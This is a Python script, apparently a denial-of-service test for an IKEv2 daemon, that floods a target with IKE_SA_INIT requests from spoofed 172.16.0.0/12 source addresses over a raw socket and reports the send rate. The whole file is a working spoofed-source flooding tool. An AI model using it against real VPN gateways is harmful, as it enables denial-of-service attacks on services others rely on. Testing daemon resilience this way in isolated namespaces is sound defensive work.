#!/usr/bin/env python3
"""IKE_SA_INIT flood from spoofed source addresses (issue 7's denial-of-service test).

Usage: flood.py DESTINATION PORT SECONDS
Sends IKE_SA_INIT requests (SA aes128gcm16/prfsha256/x25519, KE, Nonce) from random addresses in
172.16.0.0/12 through a raw socket (IP_HDRINCL), as fast as it can for SECONDS, then prints the
number of packets sent and the rate. Only for the test's own network namespaces.
"""
import os
import random
import socket
import struct
import sys
import time


def ike_sa_init(spi_i: bytes) -> bytes:
    # Transforms (RFC 7296 3.3.2): ENCR AES-GCM-16 (20) with key length 128, PRF HMAC-SHA2-256 (5), KE x25519 (31).
    encr = struct.pack("!BBHBBH", 3, 0, 12, 1, 0, 20) + struct.pack("!HH", 0x800E, 128)
    prf = struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 5)
    ke_t = struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 31)
    transforms = encr + prf + ke_t
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal          # next: KE
    ke = struct.pack("!BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)       # next: Nonce
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    header = spi_i + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def main() -> None:
    destination, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(destination)
    # A few distinct messages reused with fresh SPIs and sources: building each from scratch would
    # make Python, not the daemon, the bottleneck.
    bodies = [ike_sa_init(os.urandom(8)) for _ in range(64)]
    sent = 0
    start = time.monotonic()
    deadline = start + seconds
    while time.monotonic() < deadline:
        for _ in range(256):
            ike = bytearray(random.choice(bodies))
            ike[0:8] = random.getrandbits(64).to_bytes(8, "big")
            src = (0xAC100000 | random.getrandbits(20)).to_bytes(4, "big")
            udp = struct.pack("!HHHH", 500, port, 8 + len(ike), 0) + ike
            # IPv4 header; the kernel fills in the checksum and, with id 0, the id (raw(7)).
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
            try:
                raw.sendto(ip + udp, (destination, 0))
                sent += 1
            except OSError:
                pass
    elapsed = time.monotonic() - start
    print(f"{sent} {sent / elapsed:.0f}")


if __name__ == "__main__":
    main()
